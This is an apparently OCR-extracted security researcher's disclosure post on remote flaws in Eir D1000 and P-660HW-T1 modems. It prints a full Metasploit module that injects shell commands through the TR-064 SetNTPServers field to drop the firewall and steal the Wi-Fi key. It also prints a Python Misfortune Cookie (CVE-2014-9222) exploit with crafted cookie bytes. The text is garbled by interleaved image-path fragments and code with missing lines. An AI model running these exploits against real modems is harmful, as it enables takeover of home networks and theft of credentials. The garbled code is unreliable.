Eir’s D1000 Modem Is Wide Open To Being Hacked.


The Eir D1000 Modem has bugs that allow an attacker to gain full control of the modem from the Internet. The modem could then be used to hack into internal computers on the network, as a proxy host to hack other
computers or even as a bot in a botnet.

A port scan of the the modem revealed that it has one TCP port exposed to the Internet, port 7547. Port 7547 is running as part of the TR-069 protocol. TR-069 a.k.a CPE WAN Management Protocol a.k.a. CWMP is a protocol that ISPs like Eir use to manage all of the modems on their network.

When Eir’s technical support want to manage the modem –maybe to reset the Wi-Fi password, they instruct the ACS (Access Control Server – the server used to manage the modems) to connect to the modem on port 7547 and send it a “connection request” command. The modem then connects to the ACS and Eir’s technical support can change whatever settings they want.

What is not very well known is that the server on port 7457 is also a TR-064 server.
This is another protocol related to TR-069. It is also known as “LAN-Side CPE Configuration”. The idea behind this protocol is to allow the ISP to configure the modem from installation software supplied with the modem. The protocol is not supposed to be accessed from the WAN side of the modem but in the D1000 modem, we can send TR-064 commands to port 7547 on the WAN side. This allows us to “configure” the modem from the Internet.

There are many TR-064 commands, some useful ones are:

 This gives general information about the modem including serial number,
 firmware version, device description etc...

 This returns the Wi-Fi keyThis returns the SSID and MAC address

 This is the pièce de résistance. We can exploit this command to run
 busybox shell commands on the modem. e.g. setting the NTP server to
 "`iptables -F INPUT`" turns off the firewall on the modem which in
 turn allows access to the administration interface on port 80.

Proof Of Concept Exploit

By sending certain TR-064 commands, we can instruct the modem to open port 80 on the firewall. Thisallows access the the web administration interface from the Internet facing side of the modem. The default login password for the D1000 is the Wi-Fi password. This is easily obtained with another TR-064 command.

Here’s a Metasploit module :

# This module requires Metasploit: http://metasploit.com/download
# Current source: https://github.com/rapid7/metasploit-framework

require 'msf/core'

class MetasploitModule < Msf::Exploit::Remote
  Rank = NormalRanking

  include Msf::Exploit::Remote::HttpClient

  def initialize(info = {})
      'Name'        => 'Eir D1000 Modem CWMP Exploit POC',
      'Description' => %q{This exploit drops the firewall to allow access to the web administration interface on port 80 and
    it also retrieves the wifi password. The default login password to the web interface is the default wifi
        password. This exploit was tested on firmware versions up to 2.00(AADU.5)_20150909.
      'Author'      =>
          'Kenzo', # Vulnerability discovery and Metasploit module
      'License'     => MSF_LICENSE,
      'DisclosureDate' => 'Nov 07 2016',
      'Privileged'     => true,
      'DefaultOptions' =>
          'PAYLOAD' => 'linux/mipsbe/shell_bind_tcp'
      'Targets' =>
          [ 'MIPS Little Endian',
              'Platform' => 'linux',
              'Arch'     => ARCH_MIPSLE
          [ 'MIPS Big Endian',
              'Platform' => 'linux',
              'Arch'     => ARCH_MIPSBE
      'DefaultTarget'    => 1

        Opt::RPORT(7547), # CWMP port
      ], self.class)

  @data_cmd_template = "<?xml version=\"1.0\"?>"
  @data_cmd_template << "<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" SOAP-ENV:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">"
  @data_cmd_template << " <SOAP-ENV:Body>"
  @data_cmd_template << "  <u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">"
  @data_cmd_template << "   <NewNTPServer1>%s</NewNTPServer1>"
  @data_cmd_template << "   <NewNTPServer2></NewNTPServer2>"
  @data_cmd_template << "   <NewNTPServer3></NewNTPServer3>"
  @data_cmd_template << "   <NewNTPServer4></NewNTPServer4>"
  @data_cmd_template << "   <NewNTPServer5></NewNTPServer5>"
  @data_cmd_template << "  </u:SetNTPServers>"
  @data_cmd_template << " </SOAP-ENV:Body>"
  @data_cmd_template << "</SOAP-ENV:Envelope>"

  def check
      res = send_request_cgi({
        'uri' => '/globe'
    rescue ::Rex::ConnectionError
      vprint_error("A connection error has occured")
      returnExploit::CheckCode::Unknown

    if res and res.code == 404 and res.body =~ /home_wan.htm/
      return Exploit::CheckCode::Appears

    return Exploit::CheckCode::Safe

  def exploit
    print_status("Trying to access the device...")

    unless check == Exploit::CheckCode::Appears
      fail_with(Failure::Unknown, "#{peer} - Failed to access the vulnerable device")

    print_status("Dropping firewall on port 80...")
    execute_command("`iptables -I INPUT -p tcp --dport 80 -j ACCEPT`","")
    key = get_wifi_key()
    print_status("WiFi key is #{key}")

  def execute_command(cmd, opts)
    uri = '/UD/act?1'soapaction = "urn:dslforum-org:service:Time:1#SetNTPServers"
    data_cmd = @data_cmd_template % "#{cmd}"
      res = send_request_cgi({
        'uri'    => uri,
        'ctype' => "text/xml",
        'method' => 'POST',
        'headers' => {
          'SOAPAction' => soapaction,
        'data' => data_cmd
      return res
    rescue ::Rex::ConnectionError
      fail_with(Failure::Unreachable, "#{peer} - Failed to connect to the web server")

  def get_wifi_key()
    print_status("Getting the wifi key...")uri = '/UD/act?1'
    soapaction = "urn:dslforum-org:service:WLANConfiguration:1#GetSecurityKeys"
    data_cmd_template = "<?xml version=\"1.0\"?>"
    data_cmd_template << "<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" SOAP-ENV:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">"
    data_cmd_template << " <SOAP-ENV:Body>"
    data_cmd_template << "  <u:GetSecurityKeys xmlns:u=\"urn:dslforum-org:service:WLANConfiguration:1\">"data_cmd_template << "  </u:GetSecurityKeys>"
    data_cmd_template << " </SOAP-ENV:Body>"
    data_cmd_template << "</SOAP-ENV:Envelope>"
    data_cmd= data_cmd_template

      res = send_request_cgi({
        'uri'    => uri,
        'ctype' => "text/xml",
        'method' => 'POST',
        'headers' => {
          'SOAPAction' => soapaction,
        'data' => data_cmd

      /NewPreSharedKey>(?<key>.*)<\/NewPreSharedKey/ =~ res.body
      return key
    rescue ::Rex::ConnectionError
      fail_with(Failure::Unreachable, "#{peer} - Failed to connect to the web server")

Precautions Eir Could Have Taken To Make The Modem More Secure

  1. Back in the days when Eir were Eircom and they used Netopia modems, port 7547 was blocked to every IP address except those assigned to Eir’s management servers. This meant even though the Netopia modems had bugs, they could not be exploited. Inexplicably, Eir do not do this for their newer modems. If they did, these bugs would not have been exploitable.
  2. They could have started a bug bounty program. This would have created an incentive for security researchers to look for flaws in Eir’s modems.

Other Points Of Interest

  • This is not the only bug in this software, there are others. It was not even the first, previous firmware versions were also vulnerable to CVE-2014-9222, the “Misfortune Cookie” bug. Eir quietly patched that bug in firmware version “2.00(AADU.5)D0.”, sometime in early 2015.• There are also a few thousand Eir modems being used on other ISP networks (mainly Vodafone). These are no longer being managed by Eir therefore any firmware updates will not be applied to these and it is likely that they will remain vulnerable to this exploit even if Eir update the firmware to fix these bugs.
  • Another of Eir’s modems, the “P-660HN-T1A_IPv6” is vulnerable to the same bugs.
  • Currently Shodan.io, the “Internet of Things” search engine shows that they are about 66,000 modems affected by this bug. Previously, it showed it to be around 100,000. Click here to search Shodan.io (you need to have an account there)

Further Reading


Eir P-660HW-T1 Vulnerability


Yet another Eir modem is hackable remotely, the P-660HW-T1. This is one
of the older models Eir use. It hasn’t had a firmware update since 2010.

This modem is based on ZynOS unlike the D1000, which was based on Linux. This makes it useless for DDOS worms based on Linux but this exploit could still be used tohack internal hosts on the networks by changing the DNS server.

The exploit uses the TR-069 port to communicate with the modem.
TheP-660HW-T1 uses a non-standard port for TR-069, port 8088. This port is not scanned by Shodan.io so I am unable to give an estimate of how many modems areaffected.

The exploit uses CVE-2014-9222, more commonly known as the “Misfortune Cookie” vulnerability. CVE-2014-922 allows memory to be overwritten using specially crafted cookies.

After running the exploit, the web management interface can be accessed on port 8088. Any password can be used to log in.

These brings the total number of Eir modems with serious bugs to three.

  1. D1000
  2. P-660HN-T1A_IPv6
  3. P-660HW-T1

Proof of Concept Code:

#!/usr/bin/env python
# Eircom "P-660HW-T1 v3"(rebranded ZyXEL) WAN-side Exploit
# Tested on firmware version V3.70(BOE.4)D0 | 08/23/2010
# This exploit uses CVE-2014-9222 to gain access to the
# web interface from port 8088. Any password can be used
# to log in.
# Author: kenzo (at) tuta (dot) io
import sys
import requests


class exploit:

    def run(self, router_ip):
        #Bypass the CWMPport check. Bypass thepassword check
        headers = {"Cookie": "C88605=AAAAAAAA;C107257012=\x08\x0b\x27\x19\x66\x40\xb0\x21;C107257012=\x08\x0b\x27\x19"}

        req = requests.get("http://" + router_ip +":" + PORT + "/",  headers = headers)
        if(req.status_code == 200):
            print("The exploit was sent successfully. Try accessing the management interface on port " + PORT)

if__name__ == "__main__":
    if len(sys.argv) != 2:
        print("Please supply an ip address")

    router_ip = sys.argv[1]